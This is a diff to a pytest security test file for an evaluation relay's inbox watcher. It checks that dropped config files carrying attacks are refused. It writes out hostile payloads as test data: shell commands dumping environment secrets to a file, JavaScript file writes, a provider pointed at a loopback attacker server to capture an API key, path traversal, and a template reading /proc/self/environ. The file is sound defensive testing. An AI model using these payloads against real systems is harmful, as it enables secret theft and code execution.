@@ -4,15 +4,54 @@ operator opts in."""
 
 from __future__ import annotations
 
+import contextlib
+import http.server
+import json
 import re
+import shlex
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
 from bridge.inbox.trust import InboxTrust, inbox_config_files
-from tests.conftest import Processes, WriteFiles, one_turn_cases, wait_for
+from tests.conftest import (
+    Processes,
+    WriteFiles,
+    embedded_env,
+    one_turn_cases,
+    read_jsonl,
+    wait_for,
+)
 
 OPERATOR_TARGETS = "targets:\n  - {name: main, provider: mock, response: from the operator}\n"
+
+
+@contextlib.contextmanager
+def loopback_recorder() -> Iterator[tuple[str, list[str]]]:
+    """An attacker's server on loopback: its base URL, and each request it received."""
+    received: list[str] = []
+
+    class Record(http.server.BaseHTTPRequestHandler):
+        def do_POST(self) -> None:
+            received.append(f"{self.path} {self.headers.get('Authorization')}")
+            self.send_response(500)
+            self.end_headers()
+
+        do_GET = do_POST
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}/v1", received
+    finally:
+        server.shutdown()
+        server.server_close()
 
 
 def evil_file(marker: Path) -> str:
@@ -68,7 +107,10 @@ def test_code_evaluators_in_a_dropped_file_are_refused_at_their_lines_and_never_
     error = refused.read_text()
     dropped = inbox / "evil.yaml"  # the errors name the file as it was dropped
     assert f"{dropped}:7:9: case 'runs-code': evaluator code runs a command" in error, error
-    assert f"{dropped}:11:9: case 'aggregates-with-code': evaluator composite runs a" in error
+    assert (
+        f"{dropped}:12:46: case 'aggregates-with-code': `path`: a code_judge aggregator runs a"
+        in error
+    ), error
     assert error.count("--allow-code") == 2
     assert "evil.yaml: campaign" not in processes.log("watch")  # no campaign, no job
     assert not marker.exists()
@@ -146,3 +188,267 @@ def test_inbox_config_files_are_found_from_the_drop_up_to_the_inbox_only(tmp_pat
         inbox / "targets.yaml",
     ]
     assert InboxTrust().allow_code is False and InboxTrust().inbox_config is False
+
+
+SECRETS = {
+    "OPENAI_API_KEY": "sk-openai-0123456789abcdef",
+    "ANTHROPIC_API_KEY": "sk-ant-0123456789abcdef",
+    "DATABASE_URL": "postgres://app:db-pass-0123@db/app",
+}
+"""The watcher's (and its in-process worker's) secrets, which no dropped file may reach."""
+
+PROMPTFOO_SCHEMA = "$schema: https://promptfoo.dev/config-schema.json\n"
+
+
+def attacks(leak: Path, marker: Path, attacker: str) -> dict[str, tuple[str, list[str]]]:
+    """Each attack from the field, as the file dropped and what its refusal must say."""
+    touch = f"import pathlib\ndef build(*args):\n    pathlib.Path({str(marker)!r}).touch()\n"
+    one_test = "prompts: ['{{q}}']\nproviders: [main]\ntests:\n  - vars: {q: hi}\n"
+    return {
+        "transform.yaml": (
+            "evalcases:\n"
+            "  - id: a\n"
+            "    input_messages: [{role: user, content: hi}]\n"
+            "    evaluators:\n"
+            "      - type: contains\n"
+            "        value: hello\n"
+            f"        transforms: [{{command: [sh, -c, 'env > {leak}; echo {{}}']}}]\n",
+            ["7:21: case 'a': `transforms`: an answer transform runs a command on the workers"],
+        ),
+        "pf-transform.yaml": (
+            PROMPTFOO_SCHEMA + one_test + "    assert:\n"
+            "      - type: equals\n"
+            "        value: x\n"
+            f"        transform: require('fs').writeFileSync('{leak}', 'x')\n",
+            ["`transforms`: an answer transform runs a command on the workers"],
+        ),
+        "pf-options-transform.yaml": (
+            PROMPTFOO_SCHEMA + one_test + "defaultTest:\n"
+            f"  options: {{transform: \"require('fs').writeFileSync('{leak}', 'x')\"}}\n",
+            ["7:24: `transform`: a transform runs code on the workers"],
+        ),
+        "pf-file-transform.yaml": (
+            PROMPTFOO_SCHEMA + one_test + "    assert:\n"
+            "      - {type: equals, value: x, transform: 'file://tx.py:build'}\n",
+            ["`transforms`: an answer transform runs a command on the workers"],
+        ),
+        "pf-keyed-provider.yaml": (
+            PROMPTFOO_SCHEMA + "prompts: ['{{q}}']\n"
+            "providers:\n"
+            "  - id: openai:chat:gpt-4o\n"
+            f"    config: {{apiBaseUrl: '{attacker}', apiKeyEnvar: ANTHROPIC_API_KEY, "
+            "max_tokens: 1000000}\n"
+            "tests:\n  - vars: {q: hi}\n",
+            ["5:5: `config` configures a provider (its server, key variable, model or limits)"],
+        ),
+        "pf-provider-id.yaml": (
+            PROMPTFOO_SCHEMA + "prompts: ['{{q}}']\nproviders: [openai:chat:gpt-4o]\n"
+            "tests:\n  - vars: {q: hi}\n",
+            ["unknown target 'openai:chat:gpt-4o'"],
+        ),
+        "workspace-command.yaml": (
+            "evalcases:\n"
+            "  - id: a\n"
+            "    input_messages: [{role: user, content: hi}]\n"
+            f"    evaluators: [{{type: workspace_command, command: 'env > {leak}'}}]\n",
+            ["4:18: case 'a': evaluator workspace_command runs a command on the workers"],
+        ),
+        "pf-generator.yaml": (
+            PROMPTFOO_SCHEMA + "prompts: ['{{q}}']\nproviders: [main]\n"
+            "tests: file://gen.py:build\n",
+            ["4:8: `tests`: test generator file://gen.py:build is code the loader would call"],
+        ),
+        "pf-prompt-function.yaml": (
+            PROMPTFOO_SCHEMA + "prompts: [file://gen.py:build]\nproviders: [main]\n"
+            "tests:\n  - vars: {q: hi}\n",
+            ["2:11: `prompts`: prompt function file://gen.py:build is code the loader"],
+        ),
+        "repeats.yaml": (
+            "repeats: 1000\n" + one_turn_cases(20),
+            [
+                "1:1: this file makes 20000 jobs (cases times repeats times targets), over "
+                "the 10000 a dropped file may make"
+            ],
+        ),
+        "targets-peek.yaml": (
+            "evalcases:\n"
+            "  - id: a\n"
+            "    input_messages: [{role: user, content: [{type: file, value: ../targets.yaml}]}]\n",
+            ["3:65: case 'a': file '../targets.yaml' resolves to", "outside the inbox"],
+        ),
+        "results-peek.yaml": (
+            "evalcases:\n"
+            "  - id: a\n"
+            "    input_messages: [{role: user, content: [{type: file, "
+            "value: ../results/earlier.jsonl}]}]\n",
+            ["file '../results/earlier.jsonl' resolves to", "outside the inbox"],
+        ),
+        "template-read.yaml": (
+            "prompts: [\"{{ env.project.root.joinpath('/proc/self/environ').read_text() "
+            '| reverse | join }}"]\nproviders: [main]\ntests:\n  - {id: a, vars: {q: hi}}\n',
+            ["1:11: template error"],
+        ),
+        "template-write.yaml": (
+            "prompts: [\"{{ env.project.root.joinpath('targets.yaml').write_text('x') }}\"]\n"
+            "providers: [main]\ntests:\n  - {id: a, vars: {q: hi}}\n",
+            ["1:11: template error"],
+        ),
+    } | {"gen.py": (touch, []), "tx.py": (touch, [])}
+
+
+def test_each_attack_through_the_real_watcher_is_refused_and_nothing_runs(
+    project: WriteFiles, processes: Processes, tmp_path: Path
+) -> None:
+    """The doors found open by an attacker who can only drop files, replayed against a
+    real watcher holding real-looking keys: each file lands in failed/ with its reason,
+    no code ran, no request left, and a plain file dropped among them still runs."""
+    leak, marker = tmp_path / "leak.txt", tmp_path / "ran"
+    root = project(
+        {
+            "targets.yaml": OPERATOR_TARGETS,
+            "results/earlier.jsonl": '{"answer": "another campaign"}\n',
+            "inbox/.keep": "",
+        }
+    )
+    inbox = root / "inbox"
+    with loopback_recorder() as (attacker, requests):
+        dropped = attacks(leak, marker, attacker)
+        for name, (text, _) in dropped.items():
+            if name.endswith(".py"):
+                (inbox / name).write_text(text)
+        processes.env.update(SECRETS)
+        watch(processes, inbox)
+        for name, (text, _) in dropped.items():
+            if name.endswith(".yaml"):
+                (inbox / name).write_text(text)
+        refused = {
+            name: inbox / "failed" / f"{name}.error.txt"
+            for name in dropped
+            if name.endswith(".yaml")
+        }
+        wait_for(
+            lambda: all(p.exists() for p in refused.values()),
+            120,
+            f"every attack to be refused (log: {processes.log('watch')[-3000:]})",
+        )
+        (inbox / "good.yaml").write_text(one_turn_cases(1))
+        finished(processes, "good.yaml")
+        for name, path in refused.items():
+            error = path.read_text()
+            for said in dropped[name][1]:
+                assert said in error, f"{name}: {error}"
+        assert requests == []
+    assert not leak.exists() and not marker.exists()
+    assert (root / "targets.yaml").read_text() == OPERATOR_TARGETS
+    assert "campaign" not in "".join(
+        line for line in processes.log("watch").splitlines() if "good.yaml" not in line
+    )
+    for secret in SECRETS.values():
+        for path in root.rglob("*"):
+            assert not path.is_file() or secret not in path.read_text(errors="replace"), path
+
+
+def test_validate_untrusted_refuses_and_writes_nothing(
+    project: WriteFiles, tmp_path: Path, private_home: Path
+) -> None:
+    """`validate --untrusted` checks files as the watcher does: the attacks are refused,
+    nothing they name runs, and no file appears anywhere under the project."""
+    leak, marker = tmp_path / "leak.txt", tmp_path / "ran"
+    root = project({"targets.yaml": OPERATOR_TARGETS, "results/earlier.jsonl": "{}\n"})
+    pull = root / "pull"
+    pull.mkdir()
+    dropped = attacks(leak, marker, "http://127.0.0.1:9/v1")
+    for name, (text, _) in dropped.items():
+        (pull / name).write_text(text)
+    before = sorted(root.rglob("*"))
+    done = subprocess.run(
+        [sys.executable, "-m", "bridge.cli.main", "validate", "--untrusted", str(pull)],
+        capture_output=True,
+        text=True,
+        env=embedded_env(private_home) | SECRETS,
+        timeout=120,
+        check=False,
+    )
+    assert done.returncode == 1, done.stdout + done.stderr
+    for name, (_, said) in dropped.items():
+        if name.endswith(".yaml") and name not in ("pf-provider-id.yaml", "repeats.yaml"):
+            for part in said:
+                assert part in done.stdout, f"{name}: {done.stdout}"
+    assert "pf-provider-id.yaml" in done.stdout and "unknown target" in done.stdout
+    assert sorted(root.rglob("*")) == before
+    assert not leak.exists() and not marker.exists()
+
+
+def test_allowed_code_runs_with_a_clean_environment(
+    project: WriteFiles, processes: Processes, tmp_path: Path
+) -> None:
+    """With --allow-code the transform, the script evaluator and the aggregator of a
+    dropped file run, and each sees none of the watcher's keys."""
+    seen = {kind: tmp_path / f"{kind}.env" for kind in ("transform", "script", "aggregator")}
+    verdict = json.dumps({"score": 1})
+
+    def dump(kind: str, reply: str) -> str:
+        return f"env > {seen[kind]}; echo {shlex.quote(reply)}"
+
+    case = {
+        "id": "a",
+        "input_messages": [{"role": "user", "content": "hi"}],
+        "evaluators": [
+            {
+                "type": "contains",
+                "value": "operator",
+                "transforms": [
+                    {"command": ["sh", "-c", dump("transform", '{"output": "operator"}')]}
+                ],
+            },
+            {"type": "code_judge", "script": dump("script", verdict)},
+            {
+                "type": "composite",
+                "aggregator": {"type": "code_judge", "path": dump("aggregator", verdict)},
+                "evaluators": [{"type": "contains", "value": "operator"}],
+            },
+        ],
+    }
+    root = project({"targets.yaml": OPERATOR_TARGETS, "inbox/.keep": ""})
+    inbox = root / "inbox"
+    processes.env.update(SECRETS)
+    watch(processes, inbox, "--allow-code")
+    (inbox / "code.yaml").write_text(json.dumps({"evalcases": [case]}))
+    campaign = finished(processes, "code.yaml")[1]
+    (result,) = read_jsonl(root / "results" / f"{campaign}.jsonl")
+    assert result["status"] == "ok" and result["score"] == 1.0, result
+    for kind, path in seen.items():
+        text = path.read_text()
+        assert "PATH=" in text, kind
+        assert not any(secret in text for secret in SECRETS.values()), (kind, text)
+        assert "EVALRELAY_REDIS_URL" not in text and "EVALRELAY_HOME" not in text, (kind, text)
+
+
+def test_a_slow_file_lets_a_file_dropped_after_it_go_first(
+    project: WriteFiles, processes: Processes
+) -> None:
+    """One file whose templates take a minute to render cannot hold the inbox: a file
+    dropped while it loads is queued and complete before it."""
+    tests = "".join(f"  - id: t{i}\n    vars: {{q: hi}}\n" for i in range(200))
+    root = project(
+        {
+            "evalrelay.yaml": (
+                "template_limits: {seconds: 600, iterations: 10000000}\n"
+                "load_limits: {seconds: 600}\n"
+            ),
+            "targets.yaml": OPERATOR_TARGETS,
+            "inbox/.keep": "",
+        }
+    )
+    inbox = root / "inbox"
+    watch(processes, inbox)
+    (inbox / "slow.yaml").write_text(
+        'prompts:\n  - "{% for i in range(400000) %}{% endfor %}{{ q }}"\n'
+        "providers: [main]\ntests:\n" + tests
+    )
+    time.sleep(5)  # settled, and loading
+    dropped = time.monotonic()
+    (inbox / "good.yaml").write_text(one_turn_cases(1))
+    finished(processes, "good.yaml")
+    assert time.monotonic() - dropped < 45
+    assert "slow.yaml: campaign" not in processes.log("watch")
